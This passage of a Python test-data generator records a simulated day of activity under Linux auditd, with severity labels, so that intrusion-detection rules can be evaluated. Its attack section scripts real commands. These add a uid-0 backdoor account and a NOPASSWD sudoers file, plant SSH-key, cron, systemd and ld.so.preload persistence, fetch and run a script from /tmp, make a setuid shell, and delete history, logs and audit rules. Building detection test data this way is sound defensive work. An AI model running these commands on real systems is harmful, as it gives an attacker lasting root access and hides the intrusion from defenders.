                "LOGNAME": "root", "USER": "root", "SHELL": "/bin/bash", "LANG": "C.UTF-8", "TERM": "xterm",
                "DEBIAN_FRONTEND": "noninteractive"}
    with A("routine", "info", f"package {ROOT_PKG} installed by root (apt-get)", "root",
           "root (console-like session, auid 0)", "-", f"apt-get install -y {ROOT_PKG}",
           needles=[f"install -y {ROOT_PKG}", f"/usr/bin/{ROOT_PKG}", "figlet-figlet"], types=["LOGIN"]):
        root_session(work, f"apt-get install -y {ROOT_PKG}", root_env)
    time.sleep(2)

    # -- attack-like -----------------------------------------------------------
    with A("attack", "warning", "bob (ordinary user) tries to read /etc/shadow: permission denied",
           "bob", "ssh", local, "ssh bob@host 'cat /etc/shadow'",
           needles=["/etc/shadow", "cat /etc/shadow"]):
        bob = SSH(port, "bob", [pw["bob"]])
        bob.exec("cat /etc/shadow")
        bob.close()
    time.sleep(2)

    with A("attack", "warning", f"SSH login opsadm from {ATTACK_SRC} (new source address) with a terminal",
           "opsadm", "ssh", ATTACK_SRC, "ssh opsadm@host", needles=[ATTACK_SRC], types=["USER_LOGIN"]):
        atk = SSH(port, "opsadm", [pw["opsadm"]], source=ATTACK_SRC)
        sh = atk.shell()
    src = ATTACK_SRC
    for cmd, needles in (("whoami", ["whoami"]), ("id", ["/usr/bin/id"]), ("uname -a", ["uname"]),
                         ("cat /etc/passwd", ["cat /etc/passwd"]), ("ss -tlnp", ["ss -tlnp", "/usr/bin/ss"]),
                         ("netstat -tan", ["netstat"])):
        with A("attack", "warning" if cmd in ("ss -tlnp", "netstat -tan") else "info",
               f"recon by opsadm from {src}: {cmd}", "opsadm", "ssh", src, cmd, needles=needles, pause=1.5):
            sh.run(cmd)
    with A("attack", "warning", f"recon by opsadm from {src}: sudo -l (lists own sudo rights)", "opsadm", "sudo",
           src, "sudo -l", needles=["sudo -l"], types=["USER_AUTH", "USER_ACCT"]):
        sh.run("sudo -l", sudo_pw)
    with A("attack", "critical", f"backdoor user {BACKDOOR} with uid 0 added by opsadm via sudo from {src}",
           "opsadm", "sudo", src, f"sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {BACKDOOR}",
           needles=[BACKDOOR, "useradd"], types=["USER_CMD", "ADD_USER"]):
        sh.run(f"sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash {BACKDOOR}")
    with A("attack", "critical", f"password set for backdoor user {BACKDOOR} by opsadm via sudo chpasswd from {src}",
           "opsadm", "sudo", src, f"echo '{BACKDOOR}:{BACKDOOR_PASSWORD}' | sudo chpasswd",
           needles=["chpasswd", BACKDOOR], types=["USER_CMD", "USER_CHAUTHTOK"]):
        sh.run(f"echo '{BACKDOOR}:{BACKDOOR_PASSWORD}' | sudo chpasswd")
    with A("attack", "critical", f"sudoers drop-in /etc/sudoers.d/zz-backdoor (opsadm NOPASSWD: ALL) written by opsadm via sudo tee from {src}",
           "opsadm", "sudo", src, "echo 'opsadm ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/zz-backdoor",
           needles=["zz-backdoor"], types=["USER_CMD", "SYSCALL"]):
        sh.run("echo 'opsadm ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/zz-backdoor")
    with A("attack", "warning", f"root shell opened by opsadm with sudo sh from {src}", "opsadm", "sudo", src,
           "sudo sh", needles=['cmd="sh"'], types=["USER_CMD"]):
        sh.run("sudo sh")
    root_cmds = (
        ("critical", "ssh key appended to /root/.ssh/authorized_keys by opsadm in a root shell",
         f"echo '{ATTACK_KEY}' >> /root/.ssh/authorized_keys", ["authorized_keys"]),
        ("critical", "cron persistence /etc/cron.d/zz-persist written by opsadm in a root shell",
         "echo '*/10 * * * * root /tmp/.update.sh >/dev/null 2>&1' > /etc/cron.d/zz-persist", ["zz-persist"]),
        ("critical", "systemd persistence /etc/systemd/system/zz-persist.service written by opsadm in a root shell",
         "printf '[Unit]\\nDescription=System update helper\\n\\n[Service]\\nExecStart=/tmp/.update.sh\\n"
         "Restart=always\\n\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/zz-persist.service",
         ["zz-persist.service"]),
        ("critical", "/etc/ld.so.preload written by opsadm in a root shell",
         f"echo {LIBC} > /etc/ld.so.preload", ["ld.so.preload"]),
        ("critical", "login script /etc/profile.d/zz.sh written by opsadm in a root shell",
         "echo 'export PROMPT_COMMAND=\"${PROMPT_COMMAND:-:}\" # zz' > /etc/profile.d/zz.sh", ["zz.sh"]),
        ("critical", "kernel module load attempted by opsadm in a root shell: insmod /tmp/.m/nf_conntrack_ext.ko (fails: no module support)",
         "mkdir -p /tmp/.m && head -c 4096 /dev/urandom > /tmp/.m/nf_conntrack_ext.ko && insmod /tmp/.m/nf_conntrack_ext.ko",
         ["insmod", "nf_conntrack_ext"]),
        ("warning", f"log cleared by opsadm in a root shell: truncate -s 0 {APP_LOG}",
         f"truncate -s 0 {APP_LOG}", ["zz-dayapp.log", "truncate"]),
    )
    for sev, label, cmd, needles in root_cmds:
        with A("attack", sev, label + f" (from {src})", "opsadm", "root shell (sudo sh)", src, cmd,
               needles=needles, pause=3.0):
            sh.run(cmd)
    with A("attack", "none", "opsadm leaves the root shell", "opsadm", "root shell (sudo sh)", src, "exit"):
        sh.run("exit")
    url = f"http://127.0.0.1:{http_port}/update.sh"
    with A("attack", "warning", f"download with wget by opsadm from {src}: {url} -> /tmp/.update.sh",
           "opsadm", "ssh", src, f"wget -q -O /tmp/.update.sh {url}", needles=["wget", ".update.sh"]):
        sh.run(f"wget -q -O /tmp/.update.sh {url}")
    with A("attack", "critical", f"downloaded script made executable and run by opsadm from {src}: /tmp/.update.sh",
           "opsadm", "ssh", src, "chmod +x /tmp/.update.sh && /tmp/.update.sh", needles=[".update.sh"]):
        sh.run("chmod +x /tmp/.update.sh && /tmp/.update.sh")
    with A("attack", "critical", f"setuid root copy of bash made by opsadm via sudo from {src}: /tmp/.x",
           "opsadm", "sudo", src, "sudo cp /bin/bash /tmp/.x && sudo chmod u+s /tmp/.x",
           needles=["/tmp/.x", "u+s"], types=["USER_CMD"]):
        sh.run("sudo cp /bin/bash /tmp/.x && sudo chmod u+s /tmp/.x")
    with A("attack", "critical", f"setuid shell /tmp/.x run by opsadm from {src} (euid 0)",
           "opsadm", "ssh", src, "/tmp/.x -p -c id", needles=["/tmp/.x"]):
        sh.run("/tmp/.x -p -c id")
    with A("attack", "warning", f"shell history deleted by opsadm from {src}: rm -f ~/.bash_history",
           "opsadm", "ssh", src, "rm -f ~/.bash_history", needles=[".bash_history"]):
        sh.run("rm -f ~/.bash_history")
    with A("attack", "critical", f"all audit rules deleted by opsadm via sudo from {src}: auditctl -D",
           "opsadm", "sudo", src, "sudo auditctl -D", needles=["auditctl -D", "remove_rule"],
           types=["USER_CMD", "CONFIG_CHANGE"]):
        sh.run("sudo auditctl -D")
    with A("attack", "critical", f"auditing disabled by opsadm via sudo from {src}: auditctl -e 0",
           "opsadm", "sudo", src, "sudo auditctl -e 0", needles=["auditctl -e 0", "audit_enabled=0"],
           types=["USER_CMD", "CONFIG_CHANGE"]):
        sh.run("sudo auditctl -e 0")
    with A("attack", "none", "opsadm logs out (not in the log any more: auditing is off)", "opsadm", "ssh", src,
           "exit"):
        sh.exit()
        atk.close()


# ---------------------------------------------------------------------------
# other processes on the machine


class ProcWatch(threading.Thread):
    """Collects the pids of this script's descendants (sshd and its session
    processes, auditd, the http server, ...), sampling /proc every 50 ms."""

    def __init__(self, root):
        super().__init__(daemon=True, name="procwatch")
        self.root = root
        self.pids = {root}
        self._halt = threading.Event()

    def scan(self):
        children = {}
        for d in os.listdir("/proc"):
            if not d.isdigit():
                continue
            try:
                with open(f"/proc/{d}/stat", "rb") as f:
                    ppid = int(f.read().rsplit(b")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
            children.setdefault(ppid, []).append(int(d))
        seen, stack = set(), [self.root]
        while stack:
            for c in children.get(stack.pop(), ()):
                if c not in seen:
                    seen.add(c)
                    stack.append(c)
        self.pids |= seen

    def run(self):
        while not self._halt.is_set():
            self.scan()
            self._halt.wait(0.05)

    def stop(self):
        self._halt.set()
        self.join(timeout=5)


_AUID = re.compile(r"(?<![-\w])auid=(\d+)")
_PID = re.compile(r"(?<![-\w])p?pid=(\d+)")


def drop_foreign(text, ours):
    """Split the stream into (kept text, removed events).  An event (all
    records with one msg=audit(...) id) is foreign if no record has a set
    auid (every login/cron/root session of the day has one; the machine's
    other processes have none) and none of its pid=/ppid= is one of ours.
    Events without any pid are kept."""
    lines = text.split("\n")
    tail = lines.pop() if lines and lines[-1] == "" else None
    by_event = {}
    for line in lines:
        m = _EVENT.search(line)
        by_event.setdefault(m.group(0) if m else None, []).append(line)
    foreign = set()
    for ev, recs in by_event.items():
        if ev is None:
            continue
        blob = "\n".join(r.split("\x1d")[0] for r in recs)
        if any(a != "4294967295" for a in _AUID.findall(blob)):
            continue
        pids = {int(p) for p in _PID.findall(blob)}
        if not pids or pids & ours:
            continue
        foreign.add(ev)
    kept, removed = [], {}
    for line in lines:
        m = _EVENT.search(line)
        if m and m.group(0) in foreign:
            removed.setdefault(m.group(0), []).append(line)
        else:
            kept.append(line)
    if tail is not None:
        kept.append(tail)
    return "\n".join(kept), removed


def describe_removed(removed):
    c = {}
    for recs in removed.values():
        sc = [r for r in recs if r.startswith("type=SYSCALL")] or recs
        m = re.search(r'comm=("[^"]*"|\S+) exe=("[^"]*"|\S+)', sc[0])
        k = _KEY.search(sc[0]) if sc[0].startswith("type=SYSCALL") else None
        what = (m.group(2) if m else _TYPE.search(sc[0]).group(1)) + (f" key={k.group(2)}" if k else "")
        c[what] = c.get(what, 0) + 1
    return dict(sorted(c.items(), key=lambda kv: -kv[1]))


# ---------------------------------------------------------------------------
# evidence: which records show each action


_EVENT = re.compile(r"msg=audit\((\d+\.\d+):(\d+)\)")
_TYPE = re.compile(r"(?:^|\s)type=(\S+)")
_KEY = re.compile(r'\skey=("?)([^"\s\x1d]*)\1')


def _hex(s):
    return binascii.hexlify(s.encode()).decode().upper()


def _events(lines):
    """{msg id: [(type, line)]} in order, and the first timestamp of each."""
    by_event = {}
    for line in lines:
        m = _EVENT.search(line)
        t = _TYPE.search(line)
        if m and t:
            by_event.setdefault(m.group(0), []).append((t.group(1), line))
    return by_event


def add_evidence(actions, lines):
    """For each action: the events in its time window that belong to its
    user (auid, or acct= for pre-login PAM records) and mention one of its
    needles (plain or hex-encoded) or are of one of its record types."""
    by_event = _events(lines)
    stamps = {ev: float(_EVENT.search(ev).group(1)) for ev in by_event}
    for a in actions:
        lo, hi = a["time"] - 0.5, a["time_end"] + 1.5
        needles = a.get("needles", [])
        pats = (list(needles) + [_hex(n) for n in needles if len(n) >= 3]
                + [_hex(n.replace(" ", "\0")) for n in needles if " " in n])
        who = []
        if a.get("uid") is not None:
            who.append(f" auid={a['uid']} ")
        if a["user"] != "root":
            who += [f'acct="{a["user"]}"', f"acct={a['user']} "]
        if a["source"] == ATTACK_SRC:
            who.append(f"addr={ATTACK_SRC} ")
        summary, n = {}, 0
        for ev, recs in by_event.items():
            if not (lo <= stamps[ev] <= hi):
                continue
            text = "\n".join(line for _, line in recs)
            if not any(w in text for w in who):
                continue
            if not (any(p in text for p in pats) or any(t in a.get("types", []) for t, _ in recs)):
                continue
            n += 1
            key = None
            for typ, line in recs:
                k = _KEY.search(line) if typ == "SYSCALL" else None
                if k and k.group(2) != "(null)":
                    key = k.group(2)
            main = [typ for typ, _ in recs if typ not in ("EOE", "PROCTITLE", "PATH", "CWD", "EXECVE",
                                                          "SOCKADDR", "BPRM_FCAPS")]
            label = (main[0] if main else recs[0][0]) + (f" key={key}" if key else "")
            summary[label] = summary.get(label, 0) + 1
        a["evidence"] = [f"{k} x{v}" if v > 1 else k for k, v in sorted(summary.items(), key=lambda kv: -kv[1])]
        a["evidence_events"] = n


def write_outputs(day, fmt, out, actions, rules_path, stats, started, ended):
    base = str(out)[:-4] if str(out).endswith(".log") else str(out)
    man = {
        "day": day, "format": fmt, "log": os.path.basename(out), "rules": os.path.basename(rules_path),
        "host": socket.gethostname(), "started": utc(started), "ended": utc(ended),
        "severity_levels": {"critical": "an attack step a defender must see",
                            "warning": "worth a look (failed login, login without pty, recon, ...)",
                            "info": "routine but notable (sudo, su, package install, cron)",
                            "none": "ordinary activity; should not notify"},
        "notes": {
            "evidence": "events of the recording within [epoch-0.5, epoch_end+1.5] that carry the action's "
                        "user (auid=uid, or acct= for PAM records before login, or addr= of the attacker's "
                        "address) and contain one of match.needles (plain or hex-encoded, as in PROCTITLE/"
                        "EXECVE/USER_CMD) or a record of one of match.types; summarised as main record type "
                        "and SYSCALL key, with counts. A heuristic for orientation, not ground truth.",
            "foreign_events": "events of processes that were not part of the day (other sessions on the shared "
                              "VM; no auid and no pid/ppid of the recorder's process tree) were removed whole "
                              "from the capture; see stats.foreign_events_removed",
        },
        "stats": stats,
        "actions": [],
    }
    for a in actions:
        man["actions"].append({
            "time": utc(a["time"]), "epoch": round(a["time"], 3), "epoch_end": round(a["time_end"], 3),
            "kind": a["kind"], "severity": a["severity"], "label": a["label"], "user": a["user"],
            "session": a["session"], "source": a["source"], "command": a["command"],
            **({"outcome": a["outcome"]} if "outcome" in a else {}),
            "evidence": a.get("evidence", []),
            "match": {"uid": a.get("uid"), "needles": a.get("needles", []), "types": a.get("types", [])},
        })
    Path(base + ".manifest.json").write_text(json.dumps(man, indent=1, ensure_ascii=False) + "\n")

    md = [f"# {os.path.basename(out)}: expected incidents ({day} rules, {fmt})", ""]
    md.append(f"Recorded {utc(started)} .. {utc(ended)} (UTC) on host `{socket.gethostname()}` "
              f"by `make_day.py --day {day} --format {fmt}`; rules: `{os.path.basename(rules_path)}`.")
    md.append(f"{stats['records']} records, {stats['events']} events (distinct msg=audit(...) ids). "
              "Times below are when the action started; `log:` lists the events in the recording "
              "(within the action's time window) that show it -- main record type and SYSCALL key -- "
              "or says that this rule set leaves no trace of it.")
    md.append("")
    for title, pred in (("Incidents a person would want to see", lambda a: a["severity"] != "none"),
                        ("Ordinary activity (should not notify on its own)", lambda a: a["severity"] == "none")):
        md.append(f"## {title}")
        md.append("")
        for a in actions:
            if not pred(a):
                continue
            t = dt.datetime.fromtimestamp(a["time"], dt.timezone.utc).strftime("%H:%M:%S")
            ev = "; ".join(a.get("evidence", [])) or "NOT IN LOG (no rule/record covers it)"
            sev = a["severity"] if a["severity"] != "none" else "none"
            md.append(f"- {t} {sev}: {a['label']} [{a['kind']}; {a['session']}] -- "
                      f"`{a['command']}` -- log: {ev}")
        md.append("")
    Path(base + ".expected.md").write_text("\n".join(md))
    return base + ".manifest.json", base + ".expected.md"


def log_stats(text):
    lines = [l for l in text.split("\n") if l]
    types, keys, events = {}, {}, set()
    for line in lines:
        t = _TYPE.search(line)
        if t:
            types[t.group(1)] = types.get(t.group(1), 0) + 1
        e = _EVENT.search(line)
        if e:
            events.add(e.group(0))
        if t and t.group(1) == "SYSCALL":
            k = _KEY.search(line)
            kk = k.group(2) if k else "?"
            keys[kk] = keys.get(kk, 0) + 1
    return {"records": len(lines), "events": len(events),
            "record_types": dict(sorted(types.items(), key=lambda kv: -kv[1])),
            "syscall_keys": dict(sorted(keys.items(), key=lambda kv: -kv[1]))}


# ---------------------------------------------------------------------------
# main


def setup(work, port):
    """Accounts, homes, files, sshd config, http dir.  Not recorded."""
    run("useradd", "-m", "-s", "/bin/bash", "alice")
    run("useradd", "-m", "-s", "/bin/bash", "bob")
    run("useradd", "-m", "-s", "/bin/bash", "-G", "sudo", "opsadm")
    run("chpasswd", input="".join(f"{u}:{p}\n" for u, p in PASSWORDS.items()))
    files = {
        "alice": {"notes.txt": "weekly meeting: tuesday 10:00\nmeeting room 2.14\n- send slides\n",
                  "docs/todo.txt": "- renew certificate\n- update wiki\n"},
        "bob": {"notes.txt": "q3 numbers due friday\n", "reports/q2-report.csv": "month,total\napr,10\n"},
        "opsadm": {".bash_history": "sudo apt-get update\nsudo apt-get upgrade\ndf -h\n"},
    }
    for user, content in files.items():
        home = Path("/home") / user
        for rel, text in content.items():
            p = home / rel
            p.parent.mkdir(parents=True, exist_ok=True)
            p.write_text(text)
        run("chown", "-R", f"{user}:{user}", str(home))
    (Path("/home/bob") / "upload").mkdir(exist_ok=True)
    run("chown", "bob:bob", "/home/bob/upload")
    (work / "q3-report.csv").write_text("month,total\njul,12\naug,15\nsep,11\n")
    made_ssh = not os.path.exists("/root/.ssh")
    if made_ssh:
        os.mkdir("/root/.ssh", 0o700)
        Path("/root/.ssh/authorized_keys").write_text(LEGIT_KEY)
        os.chmod("/root/.ssh/authorized_keys", 0o600)
    Path(APP_LOG).write_text("".join(f"2026-11-30T0{i}:00:00Z dayapp: job {i} done\n" for i in range(1, 8)))
    os.chmod(APP_LOG, 0o640)
    # sshd
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "hostkey"))
    cfg = work / "sshd_config"
    cfg.write_text(
        f"Port {port}\nListenAddress 127.0.0.1\n"
        f"HostKey {work}/hostkey\nPidFile {work}/sshd.pid\n"
        "UsePAM yes\nPasswordAuthentication yes\n"
        "KbdInteractiveAuthentication no\nPubkeyAuthentication yes\n"
        "PermitRootLogin prohibit-password\nUseDNS no\nPrintMotd no\n"
        "MaxAuthTries 3\nLogLevel VERBOSE\nAcceptEnv LANG LC_*\n"
        "Subsystem sftp /usr/lib/openssh/sftp-server\n")
    os.chmod(cfg, 0o600)
    run("/usr/sbin/sshd", "-t", "-f", str(cfg))
    # the "attacker's" web server content
    www = work / "www"
    www.mkdir()
    (www / "update.sh").write_text("#!/bin/sh\n# system update helper\n"
                                   "id > /tmp/.update.log 2>&1\nuname -a >> /tmp/.update.log\n"
                                   "echo update ok\n")
    run("chmod", "-R", "a+rX", str(www))
    (work / "apt.conf").write_text('APT::Periodic::RandomSleep "0";\n')
    recorder = work / "record.sh"
    recorder.write_text('#!/bin/sh\nexec /bin/cat >> "$1"\n')
    os.chmod(recorder, 0o750)
    return made_ssh


def wait_port(port, proc, what):
    deadline = time.monotonic() + 15
    while True:
        try:
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except OSError:
            if proc.poll() is not None or time.monotonic() > deadline:
                raise RuntimeError(f"{what} did not start")
            time.sleep(0.1)


def stop(proc, name):
    if proc is None or proc.poll() is not None:
        return
    proc.send_signal(signal.SIGTERM)
    try:
        proc.wait(timeout=15)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(timeout=5)
    log(f"stopped {name} (pid {proc.pid})")


def cleanup(work, snaps, acct_snaps, backup_snaps, we_installed, debs_before, made_run_sshd, made_run_sudo):
    problems = []
    for u in ("alice", "bob", "opsadm"):
        if exists_account(u):
            r = run("userdel", "-r", "-f", u, check=False)
            if r.returncode not in (0, 12):  # 12: could not remove home (mail spool missing is fine)
                problems.append(f"userdel {u}: {r.stderr.strip()}")
    if exists_account(BACKDOOR):
        # uid 0 duplicate: -f (root has processes); never -r (its home is /root)
        r = run("userdel", "-f", BACKDOOR, check=False)
        if r.returncode != 0:
            problems.append(f"userdel {BACKDOOR}: {r.stderr.strip()}")
    for g in ACCOUNTS:
        if exists_group(g):
            run("groupdel", g, check=False)
    for u in ("alice", "bob", "opsadm"):
        for p in (f"/home/{u}", f"/var/mail/{u}"):
            if os.path.isdir(p):
                shutil.rmtree(p, ignore_errors=True)
            elif os.path.lexists(p):
                os.unlink(p)
    pkgs = [p for p in (ADMIN_PKG, ROOT_PKG) if pkg_installed(p)] + we_installed
    if pkgs:
        r = run("apt-get", "purge", "-y", "-q", *pkgs, check=False,
                env=dict(os.environ, DEBIAN_FRONTEND="noninteractive"))
        if r.returncode != 0:
            problems.append(f"apt-get purge {pkgs}: {r.stderr.strip()[-500:]}")
    for f in sorted(set(os.listdir("/var/cache/apt/archives")) - debs_before):
        if f.endswith(".deb"):
            os.unlink(os.path.join("/var/cache/apt/archives", f))
            log(f"removed /var/cache/apt/archives/{f}")
    for p in ARTEFACTS:
        if os.path.isdir(p) and not os.path.islink(p):
            shutil.rmtree(p)
            log(f"removed {p}/")
        elif os.path.lexists(p):
            os.unlink(p)
            log(f"removed {p}")
    for s in snaps:
        if s.restore():
            log(f"restored {s.path}")
    # account files: the users are gone now, so they should be back as they
    # were; restore only if the remaining difference is ours
    ours = re.compile(r"^(alice|bob|opsadm|svc-backup|sudo|root):", re.M)
    for s in acct_snaps:
        if s.same():
            continue
        now = Path(s.path).read_text()
        old = s.data.decode()
        extra = set(now.split("\n")) ^ set(old.split("\n"))
        if all(ours.match(l) or re.match(r"^(alice|bob|opsadm|svc-backup):\d+:\d+$", l) or not l for l in extra):
            s.restore()
            log(f"restored {s.path}")
        else:
            problems.append(f"{s.path} differs in lines not ours; left alone: {sorted(extra)[:6]}")
    for s in backup_snaps:
        if s.restore():
            log(f"restored {s.path}")
    if made_run_sshd and os.path.isdir("/run/sshd"):
        shutil.rmtree("/run/sshd", ignore_errors=True)
    if made_run_sudo and os.path.isdir("/run/sudo"):
        shutil.rmtree("/run/sudo", ignore_errors=True)
    # verify
    for s in list(snaps) + list(acct_snaps) + list(backup_snaps):
        if not s.same():
            problems.append(f"{s.path} is not as before")
    for u in ACCOUNTS:
        if exists_account(u) or exists_group(u):
            problems.append(f"account/group {u} still exists")
    for p in ARTEFACTS:
        if os.path.lexists(p):
            problems.append(f"{p} still exists")
    for p in (ADMIN_PKG, ROOT_PKG, *we_installed):
        if pkg_installed(p):
            problems.append(f"package {p} still installed")
    return problems


def record(args):
    preflight()
    rules_path = Path(args.rules or HERE / f"{args.day}.rules")
    rule_lines = read_rule_lines(rules_path)
    out = Path(args.out)
    work = Path(tempfile.mkdtemp(prefix="an-day-"))
    os.chmod(work, 0o755)
    snaps = [FileSnap(p) for p in SNAP_FILES] + [TreeSnap(p, str(work)) for p in SNAP_TREES]
    acct_snaps = [FileSnap(p) for p in ACCOUNT_FILES]
    backup_snaps = [FileSnap(p) for p in BACKUP_FILES]
    debs_before = set(os.listdir("/var/cache/apt/archives"))
    dpkg_status_before = hashlib.sha256(Path("/var/lib/dpkg/status").read_bytes()).hexdigest()
    made_run_sshd = not os.path.exists("/run/sshd")
    made_run_sudo = not os.path.exists("/run/sudo")
    we_installed = []
    sshd = http = None
    m = Manifest()
    problems = []
    stream = work / "stream.log"
    try:
        port, http_port = free_port(), free_port()
        if made_run_sshd:
            os.mkdir("/run/sshd", 0o755)
        setup(work, port)
        if not pkg_installed(SETUP_PKG):
            run("apt-get", "install", "-y", "-q", SETUP_PKG, env=dict(os.environ, DEBIAN_FRONTEND="noninteractive"))
            we_installed.append(SETUP_PKG)
        rules_file = work / "audit.rules"
        rules_file.write_text("-c\n" + "\n".join(rule_lines) + "\n")
        os.chmod(rules_file, 0o600)
        log(f"waiting for the audit lock, then recording ({len(rule_lines)} rules from {rules_path})")
        watch = ProcWatch(os.getpid())
        watch.start()
        with private_auditd(work, plugin_path=str(work / "record.sh"), plugin_args=(str(stream),),
                            log_format=args.format, lock_timeout=3600) as ad:
            started = time.time()
            time.sleep(1.0)
            # boot-time rule load, as augenrules does: one auditctl -R
            p = subprocess.run(["/usr/sbin/auditctl", "-R", str(rules_file)], capture_output=True, text=True)
            log(f"auditctl -R: rc {p.returncode} {p.stdout.strip()[-300:]!r} {p.stderr.strip()[-300:]!r}")
            time.sleep(2.0)
            service_message("start", "ssh")
            sshd = subprocess.Popen(["/usr/sbin/sshd", "-D", "-f", str(work / "sshd_config"),
                                     "-E", str(work / "sshd.log")],
                                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, start_new_session=True)
            wait_port(port, sshd, "sshd")
            time.sleep(2.0)
            http = subprocess.Popen(["/usr/bin/python3", "-m", "http.server", str(http_port), "--bind",
                                     "127.0.0.1", "--directory", str(work / "www")],
                                    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                    stderr=subprocess.DEVNULL, start_new_session=True,
                                    user=65534, group=65534, extra_groups=[], cwd="/")
            wait_port(http_port, http, "http server")
            try:
                the_day(m, ad, work, port, http_port)
            except BaseException:
                if stream.exists():  # for debugging: what was recorded so far
                    shutil.copyfile(stream, str(out) + ".failed")
                    log(f"partial recording: {out}.failed")
                raise
            finally:
                time.sleep(2.0)
                stop(http, "http server")
                stop(sshd, "sshd")
                sshd = http = None
                ended = time.time()
                time.sleep(1.0)
            status = ad.kernel_status()
        watch.stop()
        daemon_msgs = ad.daemon_messages()
        raw = stream.read_bytes().decode("utf-8", errors="surrogateescape")
        if args.keep_foreign:
            text, removed = raw, {}
        else:
            text, removed = drop_foreign(raw, watch.pids | {ad.pid})
        out.parent.mkdir(parents=True, exist_ok=True)
        Path(out).write_bytes(text.encode("utf-8", errors="surrogateescape"))
        stats = log_stats(text)
        raw_stats = log_stats(raw)
        stats["captured_records"] = raw_stats["records"]
        stats["captured_events"] = raw_stats["events"]
        stats["foreign_events_removed"] = len(removed)
        stats["foreign_records_removed"] = sum(len(v) for v in removed.values())
        log(f"foreign events removed: {len(removed)}", *[f"{n} {w}" for w, n in describe_removed(removed).items()],
            sep="\n  ")
        stats["kernel_lost"] = status.get("lost")
        stats["auditd_messages"] = [x for x in daemon_msgs if "queue" in x or "plugin" in x][:20]
        added = len(re.findall(r"type=CONFIG_CHANGE .*op=add_rule.*res=1", text))
        stats["rules_in_file"] = len(rule_lines)
        stats["rules_added"] = added
        if added != len(rule_lines):
            log(f"WARNING: {added} add_rule records, {len(rule_lines)} rule lines")
        add_evidence(m.actions, [l for l in text.split("\n") if l])
        paths = write_outputs(args.day, args.format, out, m.actions, rules_path, stats, started, ended)
        log(f"wrote {out} ({stats['records']} records, {stats['events']} events, "
            f"{os.path.getsize(out)} bytes), {paths[0]}, {paths[1]}")
        log("kernel lost:", status.get("lost"), "auditd messages:", *daemon_msgs, sep="\n  ")
    finally:
        stop(http, "http server")
        stop(sshd, "sshd")
        problems = cleanup(work, snaps, acct_snaps, backup_snaps, we_installed, debs_before,
                           made_run_sshd, made_run_sudo)
        dpkg_after = hashlib.sha256(Path("/var/lib/dpkg/status").read_bytes()).hexdigest()
        if dpkg_after != dpkg_status_before:
            log("note: /var/lib/dpkg/status differs from before (not restored)")
        shutil.rmtree(work, ignore_errors=True)
        if problems:
            log("CLEANUP PROBLEMS:", *problems, sep="\n  ")
        else:
            log("cleanup verified: accounts, files, packages and snapshots are as before")
    return 1 if problems else 0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--day", required=True, choices=sorted(set(SOURCES) | set(SECOND_PLAN_DAYS)))
    ap.add_argument("--format", default="RAW", choices=["RAW", "ENRICHED"])
    ap.add_argument("--out", help="recording (plugin stream); default tests/data/days/DAY.log")
    ap.add_argument("--rules", help="rule file to load; default tests/data/days/DAY.rules")
    ap.add_argument("--keep-foreign", action="store_true",
                    help="keep the events of processes that are not part of the day (other sessions on the "
                         "machine); by default they are removed, whole events, see drop_foreign()")
    ap.add_argument("--build-rules", action="store_true",
                    help="write DAY.rules from --repo (a git checkout or bare mirror) instead of recording")
    ap.add_argument("--repo", help="with --build-rules: the upstream repository")
    ap.add_argument("--commit", default="HEAD", help="with --build-rules: the commit to read")
    ap.add_argument("--no-adapt", action="store_true",
                    help="with --build-rules: drop lines with syscall names unknown to auditctl instead of "
                         "removing those names")
    args = ap.parse_args()
    if os.geteuid() != 0:
        sys.exit("must run as root")
    if args.build_rules:
        if args.day not in SOURCES:
            sys.exit(f"{args.day}.rules is hand-written; there is nothing to build")
        if not args.repo:
            sys.exit("--build-rules needs --repo")
        build_rules(args.day, args.repo, args.commit, not args.no_adapt,
                    args.rules or HERE / f"{args.day}.rules")
        return 0
    if not args.out:
        args.out = str(HERE / f"{args.day}.log")
    if args.day in SECOND_PLAN_DAYS:
        import intrusion  # the second day plan; it uses this module's tools
        return intrusion.record(args)
    return record(args)


if __name__ == "__main__":
    sys.exit(main())
